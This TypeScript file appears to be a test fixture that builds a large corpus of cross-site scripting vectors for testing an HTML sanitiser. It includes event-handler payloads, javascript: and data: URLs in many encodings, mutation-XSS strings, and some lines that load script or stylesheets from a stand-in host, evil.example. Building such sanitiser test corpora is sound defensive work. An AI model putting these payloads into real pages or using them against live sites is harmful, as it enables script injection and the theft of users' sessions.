/** Attacks that try to get a script, an external address or a custom element through a sanitiser. */

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'ONERROR'];
const TAGS = [
  ...[
    'img',
    'svg',
    'math',
    'video',
    'audio',
    'body',
    'details',
    'input',
    'iframe',
    'object',
    'embed',
    'link',
  ],
  ...['meta', 'base', 'form', 'button', 'select', 'textarea', 'table', 'marquee', 'style', 'template', 'x-y'],
  ...['p', 'a', 'li', 'strong', 'blockquote', 'h2', 'br'],
];
const ADDRESSES = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'vbscript:msgbox(1)', 'livescript:x', 'mocha:x'],
  ...['data:text/html,<script>alert(1)</script>', 'data:image/svg+xml;base64,PHN2Zy8+', 'file:///etc/passwd'],
  ...['blob:https://evil.example/1', 'http://evil.example/', 'ftp://evil.example/', '//evil.example/x.svg'],
  ...['\\\\evil.example\\x', '/\\evil.example', '/logos/../api/user/info', '/logos/../../x', '/files/a/b'],
  ...['/files/x?key=1#y', 'https://evil.example/logos/a.svg', 'https://user:pass@evil.example/', 'https:'],
  ...[
    '/api/user/logout',
    'mailto:a@b.example?body=x',
    'mailto:<script>@b.example',
    'mailto:',
    'tel:1',
    '#x',
    '',
  ],
];

const codes = (text: string, write: (code: number) => string) =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('');
/** Ways to disguise an address. */
const ENCODINGS: Readonly<Record<string, (address: string) => string>> = {
  plain: (address) => address,
  decimal: (address) => codes(address, (code) => `&#${code};`),
  'decimal, long': (address) => codes(address, (code) => `&#${String(code).padStart(7, '0')}`),
  hexadecimal: (address) => codes(address, (code) => `&#x${code.toString(16)};`),
  'hexadecimal, upper case': (address) => codes(address, (code) => `&#X${code.toString(16).toUpperCase()};`),
  'with a tab': (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  'with a written line end': (address) => `${address.slice(0, 4)}&#10;${address.slice(4)}`,
  'with a named tab': (address) => `${address.slice(0, 4)}&Tab;${address.slice(4)}`,
  'with a named colon': (address) => address.replace(':', '&colon;'),
  'behind a control character': (address) => `\u0001${address}`,
  'behind a written control character': (address) => `&#1;&#14; ${address}`,
  'with a nothing in it': (address) => `${address.slice(0, 4)}\u0000${address.slice(4)}`,
  'with a turned direction': (address) => `\u202e${address}`,
  'behind a wide space': (address) => `\u3000${address}`,
};

/** Notations of an attribute. */
const attribute: readonly ((name: string, value: string) => string)[] = [
  (name, value) => `${name}="${value}"`,
  (name, value) => `${name}='${value}'`,
  (name, value) => `${name}=${value.replaceAll(' ', '')}`,
  (name, value) => `/${name}=\`${value}\``,
  (name, value) => `\n${name}\n=\n"${value}"`,
];
const written = (at: number, name: string, value: string) =>
  attribute[at % attribute.length]?.(name, value) ?? '';

const byHandler = TAGS.flatMap((tag, i) =>
  HANDLERS.map((handler, j) => `<${tag} ${written(i + j, handler, 'alert(1)')} autofocus>x`),
);
const byAddress = ADDRESSES.flatMap((address, i) =>
  Object.values(ENCODINGS).flatMap((encode, j) => [
    `<a ${written(i + j, 'href', encode(address))}>x</a>`,
    `<img ${written(i + j, 'src', encode(address))}>`,
  ]),
);
const byAttribute = [
  ...['style', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'lowsrc', 'dynsrc'],
  ...[
    'srcdoc',
    'id',
    'name',
    'class',
    'is',
    'slot',
    'ping',
    'download',
    'contenteditable',
    'xmlns',
    'http-equiv',
  ],
].flatMap((name, i) =>
  ['img', 'a', 'p', 'blockquote'].map(
    (tag) =>
      `<${tag} ${written(i, name, 'javascript:alert(1)')} href="https://a.example/" src="/logos/a.svg">x`,
  ),
);
const BROKEN = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script/src=//evil.example/x.js></script>',
  '<script\n>alert(1)</script\n>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img """><script>alert(1)</script>">',
  '<img src=/logos/a.svg onerror=alert(1)//',
  '<img src="/logos/a.svg" alt="\'><script>alert(1)</script>">',
  '<img src="/logos/a.svg" alt="&quot;><script>alert(1)</script>">',
  '<a href="https://a.example/&quot;onclick=alert(1)">x</a>',
  '<a href="https://a.example/" href="javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" href="https://a.example/">x</a>',
  '<a target=_self rel=opener href="https://a.example/">x</a>',
  '<a href=https://a.example/ onclick\u000b=alert(1)>x</a>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<p/onclick=alert(1)>x',
  '</p></div></body><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?php echo "<script>alert(1)</script>"; ?>',
  '<%<script>alert(1)</script>%>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><img src=logos/a.svg>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<table background=javascript:alert(1)><tr><td background=//evil.example/></table>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&LT;script&GT;alert(1)',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\ufe64script\ufe65alert(1)\ufe64/script\ufe65',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  `${'<blockquote>'.repeat(400)}<img src=x onerror=alert(1)>`,
  `${'<p>'.repeat(200)}<svg/onload=alert(1)>${'</p>'.repeat(300)}`,
  '<p>\u202etpircs\u202c \u2066x\u2069 \ufeffy</p>',
  '<p>&#x202e;tpircs&#8294;x</p>',
  '<a href="https://a.example/\u202egnp.exe">x</a>',
  '\ud800<p>\udfff</p>',
];

export const VECTORS: readonly string[] = [
  ...new Set([...BROKEN, ...byHandler, ...byAddress, ...byAttribute]),
];
